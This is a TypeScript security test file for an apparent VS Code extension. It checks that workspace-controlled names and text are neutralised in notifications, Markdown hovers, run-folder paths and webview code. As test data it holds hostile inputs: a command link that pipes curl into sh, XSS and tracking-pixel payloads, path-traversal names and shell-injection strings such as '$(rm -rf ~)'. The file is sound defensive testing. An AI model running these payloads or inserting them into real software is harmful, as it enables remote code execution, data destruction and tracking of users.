// test-backends: one
// Workspace content at its worst (a cloned repository controls model files, run folders and names) where it meets
// a surface that interprets it: notifications (links, `command:` links), Markdown hovers and tooltips (links, remote
// images, HTML), and file paths (run folder names from the model's `name`). The report panel has its own tests
// (reportSecurity.test.ts, webviewCsp.test.ts); webview pages set every string as text (no innerHTML anywhere in
// webview/, checked below).
import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { createRequire } from 'node:module';
import { markdownText, notificationText } from '../../src/extension/untrustedText';
import { analyzeModel } from '../../src/extension/language/analysis';
import { hoverAt } from '../../src/extension/language/hover';
import { RunStore } from '../../src/engine/runs';
import { repoRoot } from './helpers/fixtures';

const COMMAND_LINK =
  '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)';
const HOSTILE = [
  COMMAND_LINK,
  `[a](https://example.invalid/x "title") and [b](file:///etc/passwd)`,
  '![pixel](https://example.invalid/track.png?secret)',
  '<img src=x onerror=alert(1)> <a href="command:x">y</a> <script>alert(1)</script>',
  '`code` **bold** _em_ ~~del~~ | table | &amp; &#x3c;',
  '# heading\n- list\n1. item\r\n> quote\u2028next',
  '- [x](command:a)',
  '\\[escaped\\](command:x)',
  '[nested [brackets]](command:x) [x]  (command:y)',
];

/** What VS Code's notifications turn into a link: `[label](target)` with an http(s), command or file target. */
const NOTIFICATION_LINK = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+/i;

test('notifications: no link survives in workspace text; plain text is unchanged', () => {
  for (const h of HOSTILE) {
    const shown = notificationText(h);
    assert.doesNotMatch(shown, NOTIFICATION_LINK, shown);
    assert.equal(shown.replace(/\] \(/g, ''), h.replace(/\]\s*\(/g, ''), 'nothing else changes');
  }
  assert.ok(NOTIFICATION_LINK.test(COMMAND_LINK), 'the pattern finds the unescaped link');
  const plain = 'Training toy2d.sbn.json failed: data/train.csv line 3: expected 2 values (got 3)';
  assert.equal(notificationText(plain), plain);
});

function renderMarkdown(): ((md: string) => string) | undefined {
  try {
    const MarkdownIt = createRequire(__filename)('markdown-it') as new (o: object) => { render(s: string): string };
    const md = new MarkdownIt({ html: true, linkify: false });
    return (s) => md.render(s);
  } catch {
    return undefined;
  }
}

test('Markdown: workspace text renders as the same text — no link, image, HTML, code, emphasis or block', () => {
  for (const h of HOSTILE) {
    const m = markdownText(h);
    assert.doesNotMatch(m, /[\r\n\u2028\u2029]/);
    // every syntax character is escaped (preceded by an odd number of backslashes)
    for (const match of m.matchAll(/(\\*)([`*_[\]()!<>&|~#])/g))
      assert.equal(match[1].length % 2, 1, `${m} at ${match.index}`);
  }
  const render = renderMarkdown();
  if (!render) return;
  for (const h of HOSTILE) {
    const html = render(`**${markdownText(h)}** · ${markdownText(h)}`);
    assert.doesNotMatch(html, /<(a|img|script|code|em|del|h\d|ul|ol|li|blockquote|table)\b/, html);
    assert.equal((html.match(/<strong>/g) ?? []).length, 1, html);
  }
  // ordinary names read as they are
  assert.equal(render(markdownText('fashion-conv v1.2 (psa)')).trim(), '<p>fashion-conv v1.2 (psa)</p>');
});

test('hover: a model and layer named with Markdown show the names as text', () => {
  const model = JSON.stringify(
    {
      name: '![pixel](https://example.invalid/track.png) ' + COMMAND_LINK,
      input: { shape: [2] },
      layers: [{ type: 'dense', units: 4, name: '<img src=x onerror=alert(1)>[x](command:y)' }],
      output: { units: 1, loss: 'logistic' },
      data: { dataset: 'toy-2d' },
    },
    null,
    2,
  );
  const a = analyzeModel(model, '/w/m.sbn.json', { fileExists: () => true, fashionMnistAvailable: () => true });
  const lines = model.split('\n');
  const at = (needle: string) => {
    const line = lines.findIndex((l) => l.includes(needle));
    return hoverAt(a, line, lines[line].indexOf(needle) + 1);
  };
  const render = renderMarkdown();
  for (const hover of [at('"name": "!['), at('"units": 4')]) {
    assert.ok(hover, 'a hover');
    // the first paragraph holds the name (the rest — `(layers[0])`, shapes and counts — is ours)
    assert.doesNotMatch(hover.split('\n\n')[0].replace(/ \(layers\[\d+\]\)/, ''), /(^|[^\\])(\[|!\[|<)/, hover);
    if (render) assert.doesNotMatch(render(hover), /<(a|img)\b/);
  }
});

test('run folders: the model name never leaves the runs folder or names a special file', () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'sbn-names-'));
  const names = [
    '../../x',
    '../..',
    '..',
    '.',
    '/etc/passwd',
    'C:\\Windows\\System32\\x',
    '\\\\server\\share',
    'a\0b',
    'x'.repeat(20_000_000),
    'CON',
    'nul',
    'COM1',
    'LPT9.txt',
    '\u202Eexe.txt',
    '~/.ssh/id',
    '$(rm -rf ~)',
    '`id`',
    '; rm -rf /',
    COMMAND_LINK,
    '',
    '   ',
    '…',
  ];
  const seen = new Set<string>();
  for (const name of names) {
    const run = RunStore.create(root, name, {
      modelFileName: '../../evil.sbn.json',
      modelText: '{}',
      config: {},
      environment: {},
    });
    try {
      const dir = run.dir;
      assert.equal(path.dirname(dir), root, `${name.slice(0, 40)}: ${dir}`);
      assert.match(path.basename(dir), /^\d{8}-\d{6}-[A-Za-z0-9][A-Za-z0-9._-]{0,63}(-\d+)?$/, name.slice(0, 40));
      assert.ok(!seen.has(dir));
      seen.add(dir);
      assert.deepEqual(
        fs.readdirSync(dir).filter((f) => f.startsWith('model')),
        ['model.sbn.json'],
        'the model copy keeps a fixed name',
      );
    } finally {
      run.close();
    }
  }
  // nothing was made but the run folders
  assert.deepEqual(fs.readdirSync(root).sort(), [...seen].map((d) => path.basename(d)).sort());
  fs.rmSync(root, { recursive: true, force: true });
});

test('webviews parse no string as markup: no innerHTML, outerHTML, insertAdjacentHTML, document.write, eval', () => {
  const dir = path.join(repoRoot(), 'webview');
  for (const f of fs.readdirSync(dir).filter((n) => n.endsWith('.ts'))) {
    const text = fs.readFileSync(path.join(dir, f), 'utf8');
    assert.doesNotMatch(
      text,
      /\.(innerHTML|outerHTML)\s*=|insertAdjacentHTML|document\.write|\beval\(|new Function\(/,
      f,
    );
  }
});
